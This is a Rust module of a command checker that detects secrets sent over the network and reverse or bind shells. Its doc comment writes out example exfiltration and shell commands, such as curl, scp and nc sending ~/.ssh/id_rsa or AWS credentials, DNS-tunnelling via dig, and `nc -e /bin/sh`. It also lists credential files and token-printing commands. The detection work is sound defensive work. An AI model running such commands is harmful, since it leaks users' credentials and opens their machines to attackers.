//! Secrets sent off the machine, and shells handed to the network.
//!
//! A command is flagged when a program that sends data over the network (`curl`, `wget`,
//! `nc`, `socat`, `telnet`, `ssh`, `scp`, `rsync`, `gh gist create`, `aws s3 cp`, DNS lookups,
//! …) is given a secret as what it sends: a secret file (SSH keys, cloud and registry
//! credentials, `.netrc`, `/etc/shadow`, the project's `.env`, …) named as its payload
//! (`curl -d @~/.ssh/id_rsa`, `scp ~/.aws/credentials host:`), redirected into it
//! (`nc host 1 < ~/.ssh/id_rsa`) or piped into it by an earlier stage (`tar cz ~/.ssh | curl
//! -T - …`); the whole environment (`env`, `printenv`, `set`, `/proc/*/environ`); the output
//! of a command that prints a token (`gh auth token`, `gcloud auth print-access-token`); or a
//! secret-named variable (`$OPENAI_API_KEY`) in what it sends or in the address it sends to
//! (`curl "https://host/?k=$API_KEY"`, `dig $(cat ~/.aws/credentials | base64).host`).
//!
//! Credentials sent the way services expect them stay allowed: a token in a header (`curl -H
//! "Authorization: Bearer $TOKEN"`, `-H "…$(gh auth token)"`), `-u user:$PASS`, the user part of
//! a URL (`https://x:$TOKEN@host`). A key in a URL's query (`?api_key=$KEY`) is asked about: it
//! is also how a secret is leaked, and the checker cannot tell whose host it is.
//!
//! Reverse and bind shells are flagged too: `nc -e /bin/sh`, `ncat --exec`, `socat
//! exec:… tcp:…`, a shell redirected to `/dev/tcp/…`, a shell piped into `nc`, and interpreter
//! code that joins a socket to a shell (`pty.spawn`, `dup2`).

mod senders;
mod shells;

use std::path::{Path, PathBuf};

use super::system::absolute_paths;
use super::{Report, Rule, Site};
use crate::argv;
use crate::script::{SimpleCommand, Word};
use senders::sends;

pub(super) use shells::{interpreter_code, opened_socket};

/// Files in any home directory (`~/…`, `/root/…`) that hold credentials.
const SECRET_HOME_FILES: &[&str] = &[
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".pgpass",
    ".my.cnf",
    ".vault-token",
    ".bash_history",
    ".zsh_history",
    ".docker/config.json",
    ".kube/config",
    ".cargo/credentials",
    ".cargo/credentials.toml",
    ".terraform.d/credentials.tfrc.json",
    ".config/gh/hosts.yml",
];

/// Directories in any home directory whose every file is a credential (for `.ssh`, see
/// [`PUBLIC_SSH_FILES`]).
const SECRET_HOME_DIRS: &[&str] = &[
    ".ssh",
    ".aws",
    ".azure",
    ".gnupg",
    ".password-store",
    ".config/gh",
    ".config/gcloud",
    ".local/share/keyrings",
];

/// Files in `~/.ssh` that are public: sending them gives nothing away.
const PUBLIC_SSH_FILES: &[&str] = &["known_hosts", "known_hosts.old", "authorized_keys"];

/// System files and directories that hold passwords, host keys or service tokens.
const SECRET_SYSTEM_PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/master.passwd",
    "/etc/ssh",
    "/var/run/secrets",
    "/run/secrets",
];

/// Private key files by name, wherever they lie.
const KEY_FILE_NAMES: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "id_ecdsa_sk",
    "id_ed25519_sk",
];

/// Extensions of private keys and key stores (`.pem` is left out: it is as often a
/// certificate, which is public).
const KEY_EXTENSIONS: &[&str] = &["key", "p12", "pfx", "jks", "keystore"];

/// Suffixes of `.env.*` files that are templates, not secrets.
const ENV_TEMPLATES: &[&str] = &["example", "sample", "template", "dist", "defaults"];

/// Words that make a variable's name a secret's (`OPENAI_API_KEY`, `DB_PASSWORD`).
const SECRET_NAME_PARTS: &[&str] = &[
    "KEY",
    "KEYS",
    "APIKEY",
    "TOKEN",
    "TOKENS",
    "SECRET",
    "SECRETS",
    "PASSWORD",
    "PASSWD",
    "PASS",
    "CREDENTIALS",
    "CREDS",
    "PAT",
];

/// Commands that print a credential: `(program, leading words)`.
const TOKEN_COMMANDS: &[(&str, &[&str])] = &[
    ("gh", &["auth", "token"]),
    ("glab", &["auth", "token"]),
    ("aws", &["configure", "get"]),
    ("aws", &["configure", "export-credentials"]),
    ("aws", &["sts", "get-session-token"]),
    ("gcloud", &["auth", "print-access-token"]),
    ("gcloud", &["auth", "print-identity-token"]),
    (
        "gcloud",
        &["auth", "application-default", "print-access-token"],
    ),
    ("az", &["account", "get-access-token"]),
    ("heroku", &["auth:token"]),
    ("vault", &["read"]),
    ("vault", &["kv", "get"]),
    ("pass", &["show"]),
    ("op", &["read"]),
    ("security", &["find-generic-password"]),
    ("security", &["find-internet-password"]),
    ("git", &["credential", "fill"]),
    ("kubectl", &["config", "view", "--raw"]),
    ("gpg", &["--export-secret-keys"]),
];

/// Where a secret comes from, as a refusal names it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Secret {
    /// A credential file.
    File(PathBuf),
    /// The whole environment, with every token in it.
    Environment,
    /// The output of a command that prints a token.
    Token(String),
    /// A variable named like a secret.
    Variable(String),
}

impl Secret {
    fn describe(&self) -> String {
        match self {
            Secret::File(path) => format!("the secret file {}", path.display()),
            Secret::Environment => "the environment, with every token in it".to_string(),
            Secret::Token(command) => format!("the credential `{command}` prints"),
            Secret::Variable(name) => format!("the secret ${name}"),
        }
    }

    /// Whether it may go where credentials are expected (a header, `-u`): a token does, a
    /// key file or the environment never does.
    fn is_credential(&self) -> bool {
        matches!(self, Secret::Token(_) | Secret::Variable(_))
    }
}

/// Whether `path` holds a credential (see the module doc).
fn secret_path(path: &Path) -> bool {
    let text = path.to_string_lossy();
    if SECRET_SYSTEM_PATHS
        .iter()
        .any(|p| path.starts_with(p) && !(p.ends_with("/ssh") && text.ends_with(".pub")))
    {
        return !text.ends_with("ssh_config") && !text.contains("ssh_config.d");
    }
    let components: Vec<&str> = path
        .components()
        .map(|c| c.as_os_str().to_str().unwrap_or(""))
        .collect();
    if components.len() >= 3
        && components[1] == "proc"
        && components.last().is_some_and(|c| *c == "environ")
    {
        return true;
    }
    let name = components.last().copied().unwrap_or("");
    if KEY_FILE_NAMES.contains(&name)
        || Path::new(name)
            .extension()
            .and_then(|e| e.to_str())
            .is_some_and(|e| KEY_EXTENSIONS.contains(&e))
    {
        return true;
    }
    if name == ".env"
        || name
            .strip_prefix(".env.")
            .is_some_and(|rest| !ENV_TEMPLATES.contains(&rest))
    {
        return true;
    }
    // A credential file or directory of a home directory: any path with its components.
    (0..components.len()).any(|i| {
        let rest = components[i..].join("/");
        SECRET_HOME_FILES.contains(&rest.as_str())
            || SECRET_HOME_DIRS.iter().any(|dir| {
                (rest == *dir || rest.starts_with(&format!("{dir}/")))
                    && !(*dir == ".ssh"
                        && (name.ends_with(".pub") || PUBLIC_SSH_FILES.contains(&name)))
            })
    })
}

/// Whether `name` is a secret's name: one of its `_`-separated parts is a secret word, or ends
/// in one (`PGPASSWORD`, `GH_TOKEN`).
pub(super) fn secret_variable(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.split('_').any(|part| {
        SECRET_NAME_PARTS.contains(&part)
            || ["PASSWORD", "TOKEN", "SECRET", "APIKEY"]
                .iter()
                .any(|word| part.len() > word.len() && part.ends_with(word))
    })
}

/// The secret-named variables expanded in `text` (`$X`, `${X}`, `${X:-…}`).
fn secret_variables(text: &str) -> Option<String> {
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        rest = &rest[at + 1..];
        let name_start = rest.strip_prefix('{').unwrap_or(rest);
        let name: String = name_start
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        if !name.is_empty() && secret_variable(&name) {
            return Some(name);
        }
    }
    None
}

/// What reading the commands of the script in `range` gives away.
fn commands_secret(site: &Site<'_>, range: std::ops::Range<usize>) -> Option<Secret> {
    let commands = site.script.commands.get(range).unwrap_or(&[]);
    commands.iter().find_map(|c| command_secret(site, c))
}

/// The secret a command prints: a secret file it reads (named or redirected), the
/// environment, a token, or a secret-named variable in its words or its here-string.
fn command_secret(site: &Site<'_>, command: &SimpleCommand) -> Option<Secret> {
    let invocation = argv::unwrap(&command.argv);
    let argv = invocation.argv;
    if argv.is_empty() && command.argv.iter().any(|w| w.is("env")) {
        return Some(Secret::Environment);
    }
    if let Some(program) = argv.first().and_then(argv::program) {
        let args = &argv[1..];
        if prints_environment(program, args) {
            return Some(Secret::Environment);
        }
        let token = TOKEN_COMMANDS.iter().find(|(name, words)| {
            *name == program
                && words.len() <= args.len()
                && words.iter().zip(args).all(|(w, a)| a.is(w))
        });
        if token.is_some() {
            return Some(Secret::Token(super::words_text(argv)));
        }
    }
    for word in argv.iter().chain(&command.inputs) {
        if let Some(path) = paths(site, command, word, word.text()).into_iter().next() {
            return Some(Secret::File(path));
        }
        if let Some(name) = secret_variables(&word.raw) {
            return Some(Secret::Variable(name));
        }
    }
    command
        .stdin
        .as_ref()
        .and_then(|stdin| secret_variables(&stdin.raw))
        .map(Secret::Variable)
}

/// Whether `PROGRAM ARGS` prints every variable of the environment.
fn prints_environment(program: &str, args: &[Word]) -> bool {
    let operands = args.iter().filter(|w| !w.text().starts_with('-')).count();
    match program {
        "printenv" => args
            .iter()
            .all(|w| w.text().starts_with('-') || secret_variable(w.text())),
        "set" | "export" => args.iter().all(|w| w.is("-p")),
        "declare" | "typeset" => {
            operands == 0 && args.iter().any(|w| w.is("-p") || w.is("-x") || w.is("-px"))
        }
        "compgen" => args.iter().any(|w| w.is("-e") || w.is("-v")),
        _ => false,
    }
}

/// The secret files `text` (a path as written in `word`, or part of it) names, from where
/// `command` runs; a leading `~/` is the home directory even where the shell would not expand
/// it (`curl -d @~/.ssh/id_rsa`).
fn paths(site: &Site<'_>, command: &SimpleCommand, word: &Word, text: &str) -> Vec<PathBuf> {
    let expanded = match (text.strip_prefix("~/"), site.env.home) {
        (Some(rest), Some(home)) => home.join(rest).display().to_string(),
        _ => text.to_string(),
    };
    let mut word = Word {
        values: vec![expanded],
        ..word.clone()
    };
    // `@$HOME/.ssh/id_rsa` is known once `$HOME` is expanded; only a truly unknown path is not.
    word.dynamic = word.values[0].contains('$') || word.values[0].contains('`');
    absolute_paths(&word, &command.cwd)
        .into_iter()
        .filter(|p| secret_path(p))
        .collect()
}
/// The rule for one command: a network sender given a secret, or a shell handed to the network.
/// `ssh -R PORT:HOST:PORT host`: opens a port on another machine that leads into this one (or
/// to what it can reach), handing the other side a way in.
fn remote_forward(site: &Site<'_>, program: &str, report: &mut Report) {
    let forwards = program == "ssh"
        && site.args().iter().any(|w| {
            let text = w.text();
            text == "-R"
                || text.starts_with("-R") && !text.starts_with("--")
                || text.starts_with("-oRemoteForward")
                || text.to_ascii_lowercase().contains("remoteforward")
        });
    if forwards {
        site.find(
            report,
            Rule::Exfiltration,
            format!(
                "{} opens a port on another machine that leads back into this one.",
                site.quoted()
            ),
        );
    }
}

pub(super) fn command(site: &Site<'_>, program: &str, report: &mut Report) {
    shells::reverse_shell(site, program, report);
    remote_forward(site, program, report);
    let Some(sent) = sends(program, site.args()) else {
        return;
    };
    let command = site.command;
    let secret = sent
        .files
        .iter()
        .find_map(|(word, path)| paths(site, command, word, path).into_iter().next())
        .map(Secret::File)
        .or_else(|| {
            sent.data.iter().find_map(|word| {
                secret_variables(&word.raw)
                    .map(Secret::Variable)
                    .or_else(|| commands_secret(site, word.subs.clone()))
            })
        })
        .or_else(|| {
            sent.credentials.iter().find_map(|word| {
                commands_secret(site, word.subs.clone()).filter(|s| !s.is_credential())
            })
        })
        .or_else(|| {
            if !sent.stdin {
                return None;
            }
            command
                .inputs
                .iter()
                .find_map(|word| paths(site, command, word, word.text()).into_iter().next())
                .map(Secret::File)
                .or_else(|| {
                    let stdin = command.stdin.as_ref()?;
                    secret_variables(&stdin.raw)
                        .map(Secret::Variable)
                        .or_else(|| commands_secret(site, stdin.subs.clone()))
                })
                .or_else(|| commands_secret(site, command.upstream.clone()?))
        });
    if let Some(secret) = secret {
        site.find(
            report,
            Rule::Exfiltration,
            format!(
                "{} sends {} over the network.",
                site.quoted(),
                secret.describe()
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credential_files_are_secret_and_public_keys_are_not() {
        for path in [
            "/home/ann/.ssh/id_rsa",
            "/home/ann/.ssh",
            "/root/.aws/credentials",
            "/home/ann/.netrc",
            "/home/ann/.docker/config.json",
            "/home/ann/.kube/config",
            "/home/ann/.config/gh/hosts.yml",
            "/etc/shadow",
            "/etc/ssh/ssh_host_ed25519_key",
            "/proc/self/environ",
            "/proc/1/environ",
            "/home/ann/proj/.env",
            "/home/ann/proj/.env.production",
            "/srv/tls/server.key",
        ] {
            assert!(secret_path(Path::new(path)), "{path}");
        }
        for path in [
            "/home/ann/.ssh/id_rsa.pub",
            "/home/ann/.ssh/known_hosts",
            "/home/ann/.ssh/authorized_keys",
            "/etc/ssh/ssh_host_ed25519_key.pub",
            "/etc/ssh/ssh_config",
            "/etc/passwd",
            "/home/ann/proj/.env.example",
            "/home/ann/proj/payload.json",
            "/home/ann/proj/build/app.tar.gz",
        ] {
            assert!(!secret_path(Path::new(path)), "{path}");
        }
    }

    #[test]
    fn secret_variables_are_told_by_the_parts_of_their_names() {
        for name in [
            "OPENAI_API_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN",
            "DB_PASSWORD",
            "PGPASSWORD",
            "NPM_TOKEN",
            "api_key",
        ] {
            assert!(secret_variable(name), "{name}");
        }
        for name in [
            "HOME",
            "PATH",
            "SSH_AUTH_SOCK",
            "MONKEY",
            "KEYBOARD",
            "PWD",
            "HOST",
        ] {
            assert!(!secret_variable(name), "{name}");
        }
    }

    #[test]
    fn secret_variables_are_found_in_any_expansion_form() {
        assert_eq!(
            secret_variables("k=$OPENAI_API_KEY&x=1").as_deref(),
            Some("OPENAI_API_KEY")
        );
        assert_eq!(
            secret_variables("${GH_TOKEN:-x}").as_deref(),
            Some("GH_TOKEN")
        );
        assert_eq!(secret_variables("$HOME/$USER"), None);
    }
}
